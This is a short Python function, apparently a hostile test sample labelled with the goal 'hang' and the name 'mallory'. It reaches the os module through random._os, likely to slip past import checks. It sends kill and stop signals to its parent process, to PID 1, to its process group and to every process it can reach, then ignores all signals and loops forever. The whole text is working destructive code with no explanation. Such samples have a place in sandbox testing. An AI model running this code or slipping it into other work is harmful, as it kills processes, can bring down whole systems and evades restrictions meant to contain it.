# META {"kind": "proc", "goal": "hang", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    signal = sys.modules["signal"]
    done = []
    for number in (1, 10, 15, 17, 19, 9):
        for pid in (os.getppid(), 1, -1, 0):
            try:
                os.kill(pid, number)
                done.append(number)
            except OSError:
                pass
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            signal.pause()
        except BaseException:
            pass
